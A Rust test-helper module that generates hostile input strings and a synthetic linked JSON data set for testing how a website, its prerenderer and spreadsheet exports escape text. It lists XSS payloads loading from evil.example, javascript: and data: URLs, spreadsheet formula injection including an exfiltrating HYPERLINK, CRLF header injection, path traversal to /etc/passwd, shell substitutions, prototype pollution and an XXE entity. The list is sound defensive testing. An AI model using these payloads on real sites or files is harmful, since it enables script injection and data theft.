//! [`strings`]: texts that were written to become something else than text, and [`world`]: a data set that says one of them
//! wherever it can say anything. Shared by the tests of the pages, of the prerenderer and of the sheets.

// Each of them uses a part of it.
#![allow(dead_code)]

use serde_json::{Value, json};

/// The texts, each once, none blank. They are families times the places that they try to break out of.
pub fn strings() -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    // What runs, behind whatever might end the text that it stands in.
    let payloads = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<base href=//evil.example/>",
        "<style>*{background:url(//evil.example)}</style>",
        "<form action=//evil.example><button>x</button>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
    ];
    let enders = ["", "\">", "'>", "</title>", "</script>", "</textarea>", "-->", "]]>", "</svg>", "\\\";//"];
    for payload in payloads {
        all.extend(enders.iter().map(|ender| format!("{ender}{payload}")));
    }
    // Attributes.
    for quote in ["\"", "'", "`", "“", "\u{a0}\"", "&quot;", "\\\"", "\"\t", "\"\u{c}"] {
        all.push(format!("x{quote} onload={quote}alert(1)"));
        all.push(format!("x{quote} style={quote}position:fixed"));
    }
    all.extend(addresses());
    all.extend(ids());
    // Formulas of spreadsheets.
    for sign in ["=", "+", "-", "@", "＝", "＋", "－", "＠"] {
        for before in ["", "\u{feff}", "\u{202e}", "\u{0}"] {
            all.push(format!("{before}{sign}cmd|' /C calc'!A0"));
        }
        all.push(format!("{sign}HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"));
    }
    // Lines of calendars and heads of messages.
    for line in [
        "BEGIN:VEVENT",
        "END:VCALENDAR",
        "ATTACH:https://evil.example/x",
        "URL:javascript:alert(1)",
        "X-EVIL;A=\"b\":c",
    ] {
        for end in ["\r\n", "\n", "\r", "\u{85}", "\u{2028}", "\\n", "\r\n ", ",", ";"] {
            all.push(format!("x{end}{line}{end}x"));
        }
    }
    all.extend(CURIOUS.map(str::to_owned));
    // Floods.
    all.push(format!("Z{}", "\u{337}\u{310}\u{489}".repeat(400)));
    all.push("w".repeat(5000));
    all.push("שָׁלוֹם".repeat(200));
    all.push("👨‍👩‍👧‍👦".repeat(200));
    all.push("<".repeat(3000));
    all.push("&".repeat(3000));
    all.push("\u{202e}".repeat(500) + "x");
    all.push("<b>".repeat(600));
    all.push("\"'`".repeat(500));
    all.push("\u{fdfa}".repeat(300));
    all
}

/// What no link may lead to.
pub fn addresses() -> Vec<String> {
    let schemes = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "java\rscript:alert(1)",
        "\u{1}javascript:alert(1)",
        "\u{0}javascript:alert(1)",
        "java\u{0}script:alert(1)",
        "javascript\u{0}:alert(1)",
        "javascript\t:alert(1)",
        "\u{b}javascript:alert(1)",
        "\u{1f}javascript:alert(1)",
        "\u{7f}javascript:alert(1)",
        "\u{85}javascript:alert(1)",
        "\u{fffe}javascript:alert(1)",
        "\u{2029}javascript:alert(1)",
        "\u{202e}javascript:alert(1)",
        "java\u{ad}script:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A&#x61vascript:alert(1)",
        "javascript\u{3a}//https://example.org/%0aalert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:image/svg+xml,<svg onload=alert(1)>",
        "\u{0}data:text/html,<script>alert(1)</script>",
        "\u{1}data:text/html,<script>alert(1)</script>",
        "da\tta:text/html,<script>alert(1)</script>",
        "da\nta:text/html,<script>alert(1)</script>",
        "data\u{0}:text/html,<script>alert(1)</script>",
        "data:\r\ntext/html,<script>alert(1)</script>",
        "mailto:",
        "mailto:a b",
        "mailto:a\u{0}@example.org",
        "mailto:a@example.org\r\nBcc: b@example.org",
        "vbscript:msgbox(1)",
        "VbScRiPt:msgbox(1)",
        "file:///etc/passwd",
        "blob:https://example.org/1",
        "//evil.example/",
        "\\\\evil.example\\share",
        "/\\evil.example",
        "https:evil.example",
        "https:/evil.example",
        "https:///evil.example",
        "https://",
        "https://a b",
        "https://a\u{a0}b",
        "https://a\tb",
        "https://a\nb",
        "https://a\u{0}b",
        "https://a\u{7f}b",
        "https://a\u{85}b",
        "https://a\u{2028}b",
        "https://a\u{fffd}b",
        "https://a\u{ffff}b",
        "\u{0}https://example.org/",
        "ftp://example.org/",
        "view-source:https://example.org/",
        "\u{feff}https://example.org/",
        "\u{200b}javascript:alert(1)",
        "filesystem:https://example.org/x",
        "ws://example.org/",
        "https://example.org/\u{202e}gpj.exe",
        "https://exam\u{200b}ple.org/",
    ];
    schemes.map(str::to_owned).into()
}

/// What no id may be.
pub fn ids() -> Vec<String> {
    let ids = [
        "..",
        "../../etc/passwd",
        "..\\..\\windows",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%2f",
        "..;/",
        "....//",
        "/etc/passwd",
        "C:\\x",
        "C:x",
        "a/../../b",
        "a/b",
        "a\\b",
        "a.b",
        "a b",
        "a\u{0}b",
        "a\u{0}.html",
        "a\nb",
        "a%00b",
        "a?b=c",
        "a#b",
        "a&b",
        "-a",
        "a-",
        "a--b",
        "A",
        "é",
        "а",
        "ａ",
        "a\u{200b}b",
        "a\u{202e}b",
        "__proto__",
        "toString",
        "hasOwnProperty",
        "index.html",
        "404.html",
        "~root",
        "$(id)",
        "`id`",
        "a;b",
        "a|b",
        "nul.json",
        "*",
    ];
    ids.map(str::to_owned).into()
}

/// What fits into no family.
const CURIOUS: [&str; 72] = [
    "constructor",
    "prototype",
    "__defineGetter__",
    "__lookupSetter__",
    "valueOf",
    "isPrototypeOf",
    "constructor.prototype.polluted",
    "__proto__[polluted]=true",
    "{\"__proto__\": {\"polluted\": true}}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%- include('/etc/passwd') %>",
    "@{7*7}",
    "*{7*7}",
    "null",
    "undefined",
    "NaN",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}",
    "[[x]]",
    "<!--app-->",
    "<!--head-->",
    "<!-- x",
    "<!--><script>",
    "<![CDATA[<x>]]>",
    "<?xml version=\"1.0\"?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
    "&lt;script&gt;",
    "&#0;",
    "&#xFFFE;",
    "&amp;amp;",
    "&notit;",
    "&nbsp",
    "</",
    "<",
    "<a",
    "a\u{1}\u{8}\u{b}\u{c}\u{1b}\u{1f}b",
    "a\u{7f}\u{80}\u{9b}\u{9f}b",
    "a\u{fffe}\u{ffff}b",
    "a\u{fffd}b",
    "\u{0}",
    "\u{0}\u{0}\" onload=\"alert(1)",
    "<\u{0}script>alert(1)</script>",
    "<script\u{0}>alert(1)</script\u{0}>",
    "a\u{fdd0}b\u{fdef}c\u{1fffe}d\u{10ffff}e",
    "\u{1b}[2J\u{1b}]0;x\u{7}",
    "\u{9b}31mx",
    "a\u{2028}b\u{2029}c",
    "a\r\nb\rc\nd",
    "\u{202e}gpj.exe",
    "\u{202a}x\u{202b}y\u{202d}z\u{202e}",
    "\u{2066}x\u{2067}y\u{2068}z",
    "\u{200e}x\u{200f}y\u{61c}z",
    "\u{200b}",
    "\u{feff}x",
    "x\u{ad}y\u{2060}z\u{200d}",
    "e\u{301}",
    "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
    "😀🤷🏽‍♀️",
    "مرحبا <b>بالعالم</b>",
    "שלום & עולם",
    "\u{e000}\u{f8ff}\u{10fffd}",
    "“ ” ‘ ’ « » ‹ › ‚ „ ′ ″ ʻ ʼ `",
    "\"'`\\\"\\'\\`",
    "C:\\new\\table\\r",
    "a\tb",
    "_x0041__x000D_",
    "1e6",
    "00123",
    "%s%n%x %00 %0d%0aSet-Cookie:a=b",
];

/// A text as the reader takes it: without blanks around it, and with U+FFFD for what no page can hold. Written once more, so
/// that a change there is a failure here.
pub fn taken(text: &str) -> String {
    let all = text.chars().map(|c| match c {
        '\t' | '\n' | '\r' => c,
        '\0'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{fdd0}'..='\u{fdef}' => '\u{fffd}',
        _ if u32::from(c) % 0x1_0000 >= 0xfffe => '\u{fffd}',
        _ => c,
    });
    all.collect::<String>().trim().to_owned()
}

/// The texts in words, which may stand in several languages.
const IN_TONGUES: [&str; 19] = [
    "title",
    "name",
    "official_name",
    "label",
    "value",
    "note",
    "role",
    "paragraphs",
    "objective",
    "target_groups",
    "results",
    "description",
    "topics",
    "city",
    "date_conflict",
    "statement",
    "disclaimer",
    "publisher",
    "origin",
];

/// The parts of records that hold such texts too.
const WITH_TONGUES: [&str; 6] = ["facts", "sections", "coordinators", "contacts", "agreements", "visibility"];

/// The files of [`world`] with every text in words in two languages: `text` in that with this tag, and `other` in that
/// with the other.
pub fn world_in(tag: &str, text: &str, (other_tag, other): (&str, &str)) -> Vec<(&'static str, Vec<u8>)> {
    fn tell(value: &mut Value, with: &dyn Fn(&Value) -> Value) {
        match value {
            Value::Array(list) => list.iter_mut().for_each(|it| tell(it, with)),
            Value::Object(fields) => {
                for (key, value) in fields {
                    if IN_TONGUES.contains(&key.as_str()) {
                        *value = with(value);
                    } else if WITH_TONGUES.contains(&key.as_str()) {
                        tell(value, with);
                    }
                }
            }
            _ => {}
        }
    }
    let both = |value: &Value| {
        let instead = if value.is_array() { json!([other]) } else { other.into() };
        json!({ tag: value, other_tag: instead })
    };
    let files = world(text).into_iter().map(|(name, bytes)| {
        let mut value: Value = serde_json::from_slice(&bytes).unwrap();
        tell(&mut value, &both);
        (name, value.to_string().into_bytes())
    });
    files.collect()
}

/// The files of a data set in which every text is `text`: one record of each kind, all linked. The name of a note
/// says it too. What must have a form of its own (ids, dates, sums, addresses) is in order.
pub fn world(text: &str) -> Vec<(&'static str, Vec<u8>)> {
    let source = source(text);
    let basis = |mut it: Value| {
        it["as_of"] = "2014".into();
        it["sources"] = json!([1]);
        it
    };
    let party = || json!([{"org": "o", "as_written": text}, {"as_written": text}]);
    let budget = json!({
        "as_written": text, "amount": 5.5, "currency": "EUR", "covers": "total",
        "parts": [{"label": text, "percent": 50}],
    });
    let states = json!({
        "title": text, "period": {"edtf": "2013/..", "as_written": text},
        "status": {"value": "ongoing", "as_written": text},
        "budget": {"as_written": text}, "donors": party(),
    });
    let mut other = source.clone();
    other["states"] = states;
    let atlas = json!({
        "schema_version": 1, "title": text, "data_version": text, "as_of": "2026-11-22", "publisher": text,
        "contact": "mailto:a@example.org", "licence": text, "licence_url": "https://example.org/", "origin": [text],
        "visibility": {"emblem": "eu.svg", "statement": text, "disclaimer": text},
    });
    let country = json!([{
        "id": "kazakhstan", "code": "KZ", "name": text, "official_name": text, "aliases": [text],
        "facts": [basis(json!({"label": text, "value": text, "note": text}))],
        "sections": [
            basis(json!({"kind": "country", "paragraphs": [text]})),
            basis(json!({"kind": "rule-of-law", "paragraphs": [text]})),
        ],
        "coordinators": [basis(json!({"name": text, "role": text, "note": text}))],
        "contacts": [basis(json!({"name": text, "role": text, "note": text}))],
        "stakeholders": [basis(json!({"org": "o", "as_written": text}))],
        "agreements": [basis(json!({"title": text, "signed": "2014", "note": text, "document": "d"}))],
        "sources": [source],
    }]);
    let envelope = json!([{
        "id": "m", "countries": ["kazakhstan"], "period": "2014/2020", "budget": budget, "note": text, "sources": [source],
    }]);
    let bodies = json!([
        {"id": "o", "name": text, "aliases": [text], "country": "kazakhstan"},
        {"id": "part", "name": text, "part_of": "o"},
    ]);
    let types = json!([{"id": "t", "name": text, "aliases": [text], "dac": [text]}]);
    let project = |id: &str| {
        json!({
            "id": id, "title": text, "other_titles": [text], "countries": ["kazakhstan"], "types": ["t"],
            "period": {"edtf": "2014-07/2017-07", "as_written": text}, "status": {"value": "ongoing", "as_written": text},
            "donors": party(), "implementers": party(), "beneficiaries": party(), "budget": budget, "objective": text,
            "target_groups": text, "results": text, "note": text, "sources": [source, other], (format!("_{text}")): text,
            "_note": text, "__proto__": {"polluted": true},
        })
    };
    let mut second = project("q");
    second["follows"] = json!(["p"]);
    second["part_of"] = "p".into();
    let events = json!([{
        "id": "e", "title": text, "kind": "seminar", "countries": ["kazakhstan"],
        "date": {"edtf": "2014-07-25", "note": text}, "city": text, "organisers": party(), "description": text,
        "topics": [text], "projects": ["p"], "sources": [source],
    }, {
        "id": "f", "title": text, "kind": "training", "countries": ["kazakhstan"], "date": {"edtf": "2014-07-26"},
        "date_conflict": text, "city": text, "sources": [source],
    }]);
    let documents = json!([{
        "id": "d", "title": text, "kind": text, "language": text, "date": "2014", "holds": "2014/2020", "size": text,
        "description": text, "countries": ["kazakhstan"], "projects": ["p"], "events": ["e"], "sources": [source],
    }]);
    let files = [
        ("atlas.json", atlas),
        ("countries.json", country),
        ("envelopes.json", envelope),
        ("organisations.json", bodies),
        ("types.json", types),
        ("projects.json", json!([project("p"), second])),
        ("events.json", events),
        ("documents.json", documents),
    ];
    files.map(|(name, value)| (name, value.to_string().into_bytes())).into()
}

/// A source that says it, in its address too where an address can hold it.
fn source(text: &str) -> Value {
    let unseen = |c| matches!(c, '\u{ad}' | '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}');
    let fits = taken(text) == text && !text.chars().any(|c| c.is_whitespace() || c == '\u{fffd}' || unseen(c));
    let address = if fits { format!("https://example.org/?a={text}") } else { "https://example.org/".to_owned() };
    // A publisher without a letter has no place among the sources that can be picked; pages would lack what they have for others.
    let publisher = format!("{text} Publisher");
    json!({"publisher": publisher, "url": address, "reference": text, "language": text, "note": text, "seen": "2026-11-22"})
}
